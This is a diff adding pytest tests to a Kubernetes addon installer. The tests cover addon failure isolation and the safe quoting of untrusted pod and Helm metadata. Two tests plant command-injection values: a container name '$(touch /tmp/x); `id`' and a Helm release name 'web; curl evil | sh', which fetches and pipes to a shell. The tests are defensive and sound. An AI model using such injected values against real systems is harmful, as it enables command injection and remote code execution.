@@ -305,3 +305,58 @@ def test_a_secret_of_the_users_own_is_used(tmp_path: Path) -> None:
     server.others = []
     addons.run(run)
     assert server.secrets == ["login"]
+
+
+def test_what_is_kept_of_an_addon_and_cannot_be_read_stops_only_that_addon(tmp_path: Path) -> None:
+    for name in ("base", "gone", "other"):
+        folder(tmp_path, name)
+    run, server, _ = started(with_addons(tmp_path, base={}, gone={}))
+    addons.run(run)
+    for name in ("base", "gone"):
+        server.parents[name] |= {"data": {"objects": "{"}}
+    server.done.clear()
+    run.cluster = with_addons(tmp_path, base={}, other={})
+    with pytest.raises(KubeinstallError) as error:
+        addons.run(run)
+    assert [f.what for f in error.value.findings] == [
+        "addon gone was not removed",
+        "addon base was not applied",
+    ]
+    assert error.value.findings[1].next == (
+        "on cp1: kubectl --kubeconfig /etc/kubernetes/admin.conf --request-timeout=15s "
+        "-n kube-system edit configmap kubeinstall-addon-base"
+    )
+    assert server.done == ["Apply other 1.0"]
+
+
+def test_what_a_kubelet_calls_a_container_is_no_shell(tmp_path: Path) -> None:
+    """A kubelet writes the status of its pods as it likes."""
+    folder(tmp_path, "base")
+    run, server, _ = started(with_addons(tmp_path, base={}), broken=["base"])
+    evil = pod("base-1", "InvalidImageName", "bad", app="base")
+    evil["metadata"]["namespace"] = "base"
+    evil["status"]["containerStatuses"][0] |= {
+        "name": "$(touch /tmp/x); `id`",
+        "lastState": {"terminated": {"exitCode": 1}},
+    }
+    server.pods = [evil]
+    with pytest.raises(KubeinstallError):
+        addons.run(run)
+    [script] = [command for _, command in server.asked if "get events" in command]
+    assert " -c '$(touch /tmp/x); `id`' " in script
+
+
+def test_a_helm_release_with_another_name_than_helm_gives_is_none(tmp_path: Path) -> None:
+    folder(tmp_path, "base")
+    made = with_addons(tmp_path, base={})
+    run, server, _ = started(made)
+    theirs = applied(rendered(made)[0].objects[-1])
+    theirs["metadata"] |= {
+        "labels": {},
+        "annotations": {"meta.helm.sh/release-name": "web; curl evil | sh"},
+        "managedFields": [],
+    }
+    server.others = [theirs]
+    server.parents = {"other": parent("other", "1", Stage.NETWORK, [])}
+    addons.run(run)
+    assert server.done == ["Apply base 1.0"]
